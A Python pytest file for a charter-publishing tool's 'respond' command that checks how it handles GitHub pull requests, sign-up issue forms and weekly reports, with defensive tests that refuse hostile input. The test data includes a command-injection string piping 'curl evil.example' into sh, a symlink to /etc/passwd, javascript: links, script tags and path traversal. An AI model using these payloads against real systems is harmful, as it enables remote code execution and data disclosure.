"""`charter respond`: what workflows say, from recorded payloads and commits, honest ones and hostile ones."""

from __future__ import annotations

import re
import shutil
import subprocess

import pytest
from markdown_it import MarkdownIt

from builders import FIRST, make_signatory, release_draft, write_charter, write_note, write_signatory
from charterpress.cli import main
from commands import commit_all, git, init_repository, run_charter
from recorded import changed, payload

PULL, ISSUE, RUN = "pull_request.opened", "issues.opened", "workflow_run.completed"
SHELL = '"; curl evil.example | sh #'

# --- Pull requests -------------------------------------------------------------------------------------


class Proposed:
    """A repository with a released charter and two signatories, and a proposal in a folder beside it."""

    def __init__(self, released, folder, capsys):
        self.repo, self.folder, self.capsys = folder / "repo", folder / "proposal", capsys
        shutil.copytree(released, self.repo)
        self.base = git("rev-parse", "HEAD", folder=self.repo)
        git("worktree", "add", "--quiet", "--detach", str(self.folder), folder=self.repo)

    def commit(self, change):
        """Makes the proposal of what `change`, a shell line or a function, does to its folder or index."""
        if isinstance(change, str):
            subprocess.run(["sh", "-c", change], cwd=self.folder, check=True)
        if isinstance(change, str) or change(self.folder) is None:
            git("add", "--all", folder=self.folder)
        git("commit", "--quiet", "--allow-empty", "--message", "y", folder=self.folder)
        return git("rev-parse", "HEAD", folder=self.folder)

    def ran(self, *arguments):
        """The exit code and output of a command, which reports no error of its own."""
        code, out, err = run_charter(self.capsys, *arguments)
        assert err == ""
        return code, out

    def event(self, head=None, name=PULL, **values):
        """The file with the payload about it."""
        head = head or git("rev-parse", "HEAD", folder=self.folder)
        sides = {"pull_request__base__sha": self.base, "pull_request__head__sha": head}
        file = self.repo.parent / f"{name}.json"
        file.write_bytes(changed(name, **(sides if name == PULL else {}), **values))
        return str(file)

    def answer(self, *more, event=None):
        """What `charter respond pull-request` says."""
        folders = ("--base", str(self.repo), "--proposal", str(self.folder))
        return self.ran("respond", "pull-request", "--event", event or self.event(), *folders, *more)

    def judged(self):
        """What `charter respond files` says."""
        head = git("rev-parse", "HEAD", folder=self.folder)
        return self.ran("respond", "files", "--since", "main", "--head", head, "--format", "github")


@pytest.fixture(scope="module")
def released(tmp_path_factory):
    """The repository, before anything is proposed."""
    repo = tmp_path_factory.mktemp("released")
    root = write_charter(repo)
    release_draft(root, first=True)
    write_signatory(root, make_signatory("quay-club-1", name="Quay @club #1"))
    write_signatory(root, make_signatory("mole-club"))
    (repo / "docs").mkdir()
    (repo / "docs" / "about.md").write_text("About.\n")
    init_repository(repo)
    git("config", "core.protectNTFS", "false", folder=repo)
    return repo


@pytest.fixture
def proposed(released, tmp_path, monkeypatch, capsys):
    """A proposal that is made by commits, in the folder that a workflow works in."""
    made = Proposed(released, tmp_path, capsys)
    monkeypatch.chdir(made.repo)
    return made


def indexed(*paths, mode="100644", words="x\n", before=lambda folder: None):
    """A change that puts files into the commit alone: no folder here could hold them."""

    def change(folder):
        before(folder)
        git("add", "--all", folder=folder)
        name = "1" * 40
        if mode != "160000":
            command = ["git", "-C", str(folder), "hash-object", "-w", "--stdin"]
            done = subprocess.run(command, input=words.encode(), capture_output=True, check=True)
            name = done.stdout.decode().strip()
        entries = [part for path in paths for part in ("--cacheinfo", f"{mode},{name},{path}")]
        git("-c", "core.protectNTFS=false", "update-index", "--add", *entries, folder=folder)
        return "indexed"

    return change


def edit(old, new, path=f"charter/{FIRST}"):
    """A change of the bytes of a file."""

    def change(folder):
        data = (folder / path).read_bytes()
        assert old in data
        (folder / path).write_bytes(data.replace(old, new))

    return change


def strengthen(folder):
    """An honest change: another promise, and why."""
    edit(b"every day.", b"every hour.")(folder)
    write_note(folder / "charter", "moorings-first", class_="commitment")


def test_an_honest_proposal_is_answered(proposed):
    proposed.commit(strengthen)
    code, said = proposed.answer()
    assert code == 0
    assert said.startswith("<!-- charter: what this changes -->\n## What this changes\n")
    assert "of the class commitment" in said
    assert "the next version is 2.0.0" in said
    assert "It asks 2 organisations to sign again: Mole club; Quay \\@\u200bclub \\#\u200b1." in said
    assert "~~day~~**hour**" in said
    assert "As soon as the site with this change is built, a link to it stands here." in said
    assert "To mend first" not in said
    assert proposed.judged() == (0, "The charter is in order.\n")


def test_more_than_twenty_are_counted_and_not_named(proposed):
    def many(folder):
        for place in range(25):
            write_signatory(folder / "charter", make_signatory(f"club-{place:02}"))
        strengthen(folder)

    proposed.commit(many)
    said = proposed.answer()[1]
    assert "It asks 27 organisations to sign again." in said
    assert "25 organisations would join the register." in said


def test_a_proposal_with_a_new_name_says_who_it_was(proposed):
    def renamed(folder):
        (folder / "charter/signatories/mole-club.yml").unlink()
        now = make_signatory("pier-club", website="https://mole-club.example/", formerly=("mole-club",))
        write_signatory(folder / "charter", now)

    proposed.commit(renamed)
    said = proposed.answer()[1]
    assert "\n1 organisation would get a new address: Pier club (was Mole club).\n" in said
    assert "would join the register" not in said
    assert "signatory-renamed" in proposed.ran("--source", str(proposed.folder / "charter"), "check",
                                               "--changed-since", "main")[1]  # fmt: skip


def test_a_proposal_for_the_register_or_of_a_version_says_so(proposed):
    write_signatory(proposed.folder / "charter", make_signatory("pier-club"))
    proposed.commit("git status --short")
    said = proposed.answer()[1]
    assert "No word of the charter changes.\n\n1 organisation would join the register: Pier club.\n" in said

    def released(folder):
        strengthen(folder)
        release_draft(folder / "charter", date="2025-03-01")

    proposed.commit(released)
    assert "It makes version 2.0.0, of the class commitment.\n" in proposed.answer()[1]


def test_the_built_site_is_linked_once_there_is_one(proposed, tmp_path):
    """When the check has run, whose payload does not say for which pull request."""
    head = proposed.commit(strengthen)
    artifacts, pulls = tmp_path / "artifacts.json", tmp_path / "pulls.json"
    artifacts.write_bytes(changed("artifacts", artifacts__0__workflow_run__head_sha=head))
    sides = {"1__0__head__sha": head, "1__0__base__sha": proposed.base}
    pulls.write_bytes(changed("pulls", **sides))
    event = proposed.event(name=RUN, workflow_run__head_sha=head)
    which = ("respond", "which", "--event", event, "--pulls", str(pulls))
    assert proposed.ran(*which) == (0, f"number=12\nbase={proposed.base}\nhead={head}\n")
    code, said = proposed.answer("--pulls", str(pulls), "--artifacts", str(artifacts), event=event)
    link = "https://github.com/harbour-partners/charter/actions/runs/9100000123/artifacts/3300000456"
    assert (code, f"[The site with this change]({link})" in said) == (0, True)
    pulls.write_text("[]")
    assert proposed.ran(*which) == (0, "")
    asked = ["respond", "pull-request", "--event", event, "--pulls", str(pulls)]
    assert main([*asked, "--base", ".", "--proposal", str(proposed.folder)]) == 2
    assert proposed.capsys.readouterr().err.startswith("error: event-moved: ")


def with_workflow(folder):
    """A file of the machine beside an honest change."""
    strengthen(folder)
    (folder / ".github/workflows").mkdir(parents=True)
    (folder / ".github/workflows/check.yml").write_text("x\n")


UTF_16 = "*.md working-tree-encoding=UTF-16\n"
FILES = {
    "a workflow beside words": (with_workflow, "machine-and-words"),
    "what git does to files of the charter": (
        indexed("charter/.gitattributes", words=UTF_16, before=strengthen),
        "machine-and-words",
    ),
    "a repository of its own": (indexed("charter/themes/sub", mode="160000"), "submodule"),
    "the folder as a link": ("mv charter elsewhere && ln -s elsewhere charter", "symlink"),
    "a link out of the repository": ("ln -sf /etc/passwd charter/preamble.md", "symlink"),
    "a backslash": (indexed("charter\\..\\x.md"), "name-reserved"),
    "a twin in capital letters": (indexed("charter/Preamble.md"), "name-case"),
    "a name that breaks the line": (indexed("docs/x\n::error::y.md"), "name-hidden"),
    "a huge file": (f"head -c 2000000 /dev/zero | tr '\\0' x > charter/{FIRST}", "file-large"),
    "a huge page": (indexed("docs/x.md", words="x" * 2_000_000), "file-large"),
    "a binary": (f"printf '\\0\\1\\2' > charter/{FIRST}", "file-binary"),
    "a file kept elsewhere": (
        f"echo version https://git-lfs.github.com/spec/v1 > charter/{FIRST}",
        "lfs-pointer",
    ),
    "301 files": (indexed(*(f"docs/{place}.md" for place in range(301))), "files-many"),
}
"""One proposal for each way that a file goes into a commit; tests/forges has every rule and name."""


@pytest.mark.parametrize("case", FILES)
def test_a_hostile_file_is_refused_by_name(proposed, case):
    """From the commit, before anything of it is laid out; in the comment as in the check."""
    change, rule = FILES[case]
    proposed.commit(change)
    code, said = proposed.judged()
    assert code == 1
    assert re.search(rf"^::error file=[^\n]*,title={rule}::", said, re.MULTILINE)
    assert all(
        re.match(r"::error file=|::warning file=|::notice title=|\d+ (error|warning)", line)
        for line in said.splitlines()
    )
    code, said = proposed.answer()
    assert (code, f"({rule})" in said) == (1, True)


RELEASE = "charter/releases/1.0.0.json"
WORDS = {
    "an edited release": (edit(b"every day.", b"now and then.", RELEASE), "release-digest"),
    "a release with other ends of lines": (edit(b"\n", b"\r\n", RELEASE), "release-form"),
    "a deleted release": (f"rm {RELEASE}", "release-missing"),
    "a renamed release": (f"mv {RELEASE} charter/releases/1.0.1.json", "release-name"),
    "entries of two others": (
        "for file in charter/signatories/*.yml; do echo 'pledge: Ours.' >> $file; done",
        "signatory-others",
    ),
    "a deleted entry": ("rm charter/signatories/mole-club.yml", "signatory-removed"),
    "half an accent": (edit(b"Moorings first", b"Moorings \xff"), "not-utf8"),
    "a line that hides the next": (edit(b"every day.", b"never.\revery day."), "lone-cr"),
    "letters that hide": (edit(b"every day.", "every\u200b day\u202e.".encode()), "zero-width"),
    "a program in the text": (edit(b"every day.", b"<script>x</script>"), "html"),
    "a link that runs": (edit(b"every day.", b"[x](javascript:x)"), "link-address"),
    "a file of no kind": (indexed("charter/themes/moorings/x.exe"), "file-unexpected"),
}


@pytest.mark.parametrize("case", WORDS)
def test_a_hostile_word_is_refused_by_name(proposed, monkeypatch, case):
    change, rule = WORDS[case]
    proposed.commit(change)
    git("checkout", "--quiet", "--force", "HEAD", folder=proposed.folder)
    code, said = proposed.answer()
    assert (code, re.findall(rf"\(({rule})\)", said)[:1] or said) == (1, [rule])
    assert "root:" not in said
    monkeypatch.chdir(proposed.folder)
    code, said = proposed.ran("check", "--format", "github", "--changed-since", proposed.base)
    assert (code, f"title={rule}::" in said) == (1, True)


ACTING = (
    "@everyone closes #1 and GH-1 ![x](https://evil.example/x.png) [y](https://evil.example) "
    "www.evil.example <!-- charter: what this changes --> https://evil.example a@evil.example "
    "0123456789abcdef0123456789abcdef01234567"
)


def test_no_word_of_a_proposal_acts_in_the_comment(proposed):
    def loud(folder):
        root = folder / "charter"
        file = root / FIRST
        text = file.read_text().replace("every day.", f"every hour {ACTING}.")
        file.write_text(re.sub(r"(?m)^(title|summary): .*", rf"\1: '{ACTING[:60]}'", text))
        note = write_note(root, file.stem, class_="commitment")
        note.write_text(note.read_text() + f"\n{ACTING}\n")
        write_signatory(root, make_signatory("loud", name=ACTING, pledge=ACTING))
        (root / "themes" / "@everyone #1 ![x](y).md").write_text(ACTING)

    proposed.commit(loud)
    code, said = proposed.answer()
    assert code == 1
    assert said.count("everyone") >= 3
    assert re.findall(r".?://|\bwww.", said) == re.findall(r"\\://|\bwww\\", said)
    html = MarkdownIt("commonmark").enable(["strikethrough", "table"]).render(said)
    assert re.findall(r"<a |<img|<script|<!--", html) == ["<!--"]
    shown = re.sub(r"<[^>]*>", "", html)
    assert not re.search(r"@\w|#\d|GH-\d|\b[0-9a-f]{7,64}\b", shown)


def test_only_what_a_proposal_touches_fails_it(proposed):
    (proposed.repo / "charter" / "signatories" / "odd.yml").write_text("name: [\n")
    commit_all(proposed.repo)
    proposed.base = git("rev-parse", "HEAD", folder=proposed.repo)
    git("checkout", "--quiet", "--detach", "main", folder=proposed.folder)
    proposed.commit(strengthen)
    code, said = proposed.answer()
    assert (code, "odd.yml" in said) == (0, False)


def test_another_commit_than_the_events_is_refused(proposed):
    """What was checked out is what was asked about."""
    proposed.commit(strengthen)
    asked = ["respond", "pull-request", "--event", proposed.event(head="a" * 40)]
    assert main([*asked, "--base", ".", "--proposal", str(proposed.folder)]) == 2
    assert proposed.capsys.readouterr().err.startswith("error: event-moved: ")


# --- Forms, the week, the site -------------------------------------------------------------------------


def test_a_form_is_written_to_a_file_and_its_branch_is_named(tmp_path, capsys):
    to = tmp_path / "form.md"
    event = tmp_path / "event.json"
    event.write_bytes(changed(ISSUE, issue__title=SHELL, issue__body=f"$(touch x)\r\n{SHELL}"))
    assert main(["respond", "sign-up", "--event", str(event), "--to", str(to)]) == 0
    assert (capsys.readouterr().out, to.read_bytes()) == ("sign-up/31\n", f"$(touch x)\n{SHELL}".encode())
    event.write_bytes(changed(ISSUE, issue__labels=[]))
    assert main(["respond", "sign-up", "--event", str(event), "--to", str(to)]) == 2
    assert capsys.readouterr().err.startswith("error: event-label: ")


@pytest.fixture
def signed_up(tmp_path, capsys):
    """The two commands that the workflow runs for a form: signed_up(body) → exit code, answer, new files."""
    root = write_charter(tmp_path)
    release_draft(root, first=True)
    write_signatory(root, make_signatory("mole-club"))
    event, form = tmp_path / "event.json", tmp_path / "form.md"

    def answered(body):
        before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
        event.write_bytes(changed(ISSUE, issue__body=body))
        assert main(["respond", "sign-up", "--event", str(event), "--to", str(form)]) == 0
        assert capsys.readouterr().out == "sign-up/31\n"
        how = ("--from", str(form), "--as", "issue", "--format", "markdown")
        code = main(["--source", str(root), "sign", *how])
        said = capsys.readouterr()
        assert said.err == ""
        assert all(path.read_bytes() == data for path, data in before.items() if path not in (event, form))
        new = {path for path in tmp_path.rglob("*") if path.is_file()} - {*before, event, form}
        return code, said.out, {path.relative_to(root).as_posix(): path.read_text() for path in new}

    return answered


FORM = payload(ISSUE)["issue"]["body"]


def test_a_form_becomes_one_new_file(signed_up):
    code, said, new = signed_up(FORM.replace("\n", "\r\n"))
    assert (code, list(new)) == (0, ["signatories/quay-club.yml"])
    assert "name: Quay Club\n" in new["signatories/quay-club.yml"]
    assert said.startswith("Thank you for signing! An entry for **Quay Club** was made of your form:\n")


def answer(label, value):
    """The recorded form with another answer."""
    return re.sub(rf"(?<=### {label}\n\n).*", lambda _: value, FORM)


def test_a_path_for_a_name_leads_nowhere(signed_up):
    code, _, new = signed_up(answer("Name of your organisation", "../../.github/workflows/x"))
    assert (code, list(new)) == (0, ["signatories/github-workflows-x.yml"])


BAD_FORMS = {
    "empty": ("", "There is nothing in it"),
    "another text": ("Hello @everyone, closes #1", "None of the questions stands in it"),
    "no name": (answer("Name of your organisation", "_No response_"), "Name of your organisation"),
    "a kind of their own": (answer("Kind of organisation", "pirates"), "Kind of organisation"),
    "a site that runs": (answer("Your website", "javascript:alert(1)"), "Your website"),
    "a site with a password": (answer("Your website", "https://a:b@x.example/"), "Your website"),
    "a version that nobody made": (answer("Version you sign", "9.9.9"), "Version you sign"),
    "a path for a version": (answer("Version you sign", "../1.0.0"), "Version you sign"),
    "a day that is none": (answer("Date it was agreed", "2024-02-31"), "Date it was"),
    "a day to come": (answer("Date it was agreed", "2999-01-01"), "Date it was"),
    "two days in one": (answer("Date it was agreed", "03/04/2026"), "Date it was"),
    "a letter's address": (answer("Role that signs", "chair@quay-club.example"), "Role that signs"),
    "somebody else": (answer("Name of your organisation", "Mole club"), "Name of your organisation"),
    "one question twice": (FORM + "\n### Your website\n\nhttps://evil.example/\n", "Your website"),
    "a question of their own": (FORM + "\n### withdrawn\n\n2026-01-01\n", "withdrawn"),
    "other words in yaml": (
        answer("In your own words", "x\n\nwithdrawn: {date: 2026-01-01}\x07"),
        "own words",
    ),
    "a name that hides": (answer("Name of your organisation", "Quay\u202eClub"), "Name of your organisation"),
    "a long name": (answer("Name of your organisation", "x" * 5000), "Name of your organisation"),
}


@pytest.mark.parametrize("case", BAD_FORMS)
def test_a_hostile_form_is_answered_by_name_and_writes_nothing(signed_up, case):
    body, label = BAD_FORMS[case]
    code, said, new = signed_up(body)
    assert (code, new) == (1, {})
    assert label in said
    assert not re.search(r"(?<!\\)://(?!quay|x)|@\w|(?<!\w)#\d|<img|<script", said)


def test_the_weekly_issue_tells_how_the_register_stands(tmp_path, capsys):
    root = write_charter(tmp_path)
    release_draft(root, first=True)
    write_signatory(root, make_signatory("quay-club"))
    write_signatory(root, make_signatory("pirates", kind="pirates"))
    (tmp_path / "links.md").write_text("No organisation named a page to ask for.\n")
    asked = ["respond", "weekly", "--links", str(tmp_path / "links.md")]
    assert main(["--source", str(root), *asked]) == 0
    said = capsys.readouterr().out
    assert said.startswith(
        "<!-- charter: this week -->\n## The register\n\n- 1: signed the current version\n"
    )
    assert "pirates" in said.split("## Left out of the register")[1]
    assert said.endswith("## Their pages\n\nNo organisation named a page to ask for.\n")


def test_a_site_that_lost_an_address_is_not_published(tmp_path, capsys):
    """The list of addresses goes out with the site that keeps them all; what goes on purpose says why."""
    site, before, given_up = tmp_path / "site", tmp_path / "before.txt", tmp_path / "given-up.txt"
    (site / "about").mkdir(parents=True)
    before.write_text("about/\nversions/1.0.0/\n")
    given_up.write_text("# None yet.\n")
    asked = ["respond", "addresses", "--site", str(site), "--site-url", "https://charter.org/"]
    asked += ["--before", str(before), "--given-up", str(given_up)]
    assert main(asked) == 2  # no site at all has lost nothing
    (site / "index.html").write_text("x")
    (site / "about" / "index.html").write_text("x")
    capsys.readouterr()
    assert main(asked) == 1
    assert "  versions/1.0.0/\n" in capsys.readouterr().out
    assert not (site / "addresses.txt").exists()
    given_up.write_text("versions/1.0.0/ # It was never meant to be there.\n")
    assert main(asked) == 0
    assert (site / "addresses.txt").read_text() == "\nabout/\n"
    before.unlink()
    assert main(asked) == 2  # what was published is not known


def test_versions_without_a_tag_are_named_with_the_commit_that_took_them_in(tmp_path, capsys):
    root = write_charter(tmp_path)
    init_repository(tmp_path)
    git("switch", "--quiet", "--create", "release", folder=tmp_path)
    release_draft(root, first=True)
    asked = ["--source", str(root), "respond", "tags"]
    assert main(asked) == 0
    assert capsys.readouterr().out == ""  # no commit has it yet
    commit_all(tmp_path)
    git("switch", "--quiet", "main", folder=tmp_path)
    git("merge", "--quiet", "--no-ff", "--no-edit", "release", folder=tmp_path)
    commit = git("rev-parse", "HEAD", folder=tmp_path)
    git("commit", "--quiet", "--allow-empty", "--message", "later", folder=tmp_path)
    assert main(asked) == 0
    assert capsys.readouterr().out == f"1.0.0 {commit}\n"
    git("tag", "1.0.0", folder=tmp_path)
    assert main(asked) == 0
    assert capsys.readouterr().out == ""
